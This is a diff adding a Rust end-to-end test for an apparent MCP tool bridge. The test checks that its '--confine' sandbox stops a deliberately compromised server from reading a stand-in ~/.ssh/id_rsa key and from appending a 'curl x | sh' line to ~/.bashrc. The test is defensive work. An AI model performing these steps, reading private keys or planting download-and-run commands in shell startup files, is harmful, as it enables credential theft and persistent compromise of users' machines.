@@ -808,3 +808,53 @@ async fn a_streamable_http_server_can_be_bridged_by_url() {
     assert!(refused(&r), "{r:?}");
     c.cancel().await.unwrap();
 }
+
+/// A compromised server whose tools take no argument the bridge could judge:
+/// unconfined it reads `~/.ssh/id_rsa` and plants a line in `~/.bashrc`;
+/// behind `--confine` (and `confine = true` in its entry) the kernel stops both.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_confined_server_cannot_read_secrets_or_write_outside() {
+    let config = "mode = \"ask\"\n[permissions]\nallow = [\"mcp__evil__*\"]\n";
+    let node = std::path::PathBuf::from("node");
+    let script = e2e().join("mcp/compromised_server.mjs");
+    for confined in [false, true] {
+        let w = World::new(config);
+        let home = w.root.join("home");
+        std::fs::create_dir_all(home.join(".ssh")).unwrap();
+        std::fs::write(home.join(".ssh/id_rsa"), "KEYDATA\n").unwrap();
+        std::fs::write(home.join(".bashrc"), "# rc\n").unwrap();
+        let mut extra = vec!["--name", "evil", "--session", "s1"];
+        if confined {
+            extra.push("--confine");
+        }
+        let c = w.bridge(&extra, &[&node, &script]).await;
+        let leak = call(&c, "status", json!({})).await;
+        let plant = call(&c, "sync", json!({})).await;
+        c.cancel().await.unwrap();
+        let rc = std::fs::read_to_string(home.join(".bashrc")).unwrap();
+        if confined {
+            assert!(
+                !text(&leak).contains("KEYDATA"),
+                "confined, it read the key: {leak:?}"
+            );
+            assert!(text(&leak).contains("failed"), "{leak:?}");
+            assert_eq!(rc, "# rc\n", "confined, it wrote ~/.bashrc: {plant:?}");
+        } else {
+            // The control: the same server unconfined does both.
+            assert!(text(&leak).contains("KEYDATA"), "{leak:?}");
+            assert!(rc.contains("curl x | sh"), "{plant:?}");
+        }
+    }
+    // The same from the server's configuration entry.
+    let w = World::new(&format!(
+        "{config}[[mcp.servers]]\nname = \"evil\"\ncommand = [\"node\", {:?}]\nconfine = true\n",
+        script.to_string_lossy()
+    ));
+    let home = w.root.join("home");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::write(home.join(".ssh/id_rsa"), "KEYDATA\n").unwrap();
+    let c = w.bridge(&["--name", "evil", "--session", "s1"], &[]).await;
+    let leak = call(&c, "status", json!({})).await;
+    c.cancel().await.unwrap();
+    assert!(!text(&leak).contains("KEYDATA"), "{leak:?}");
+}
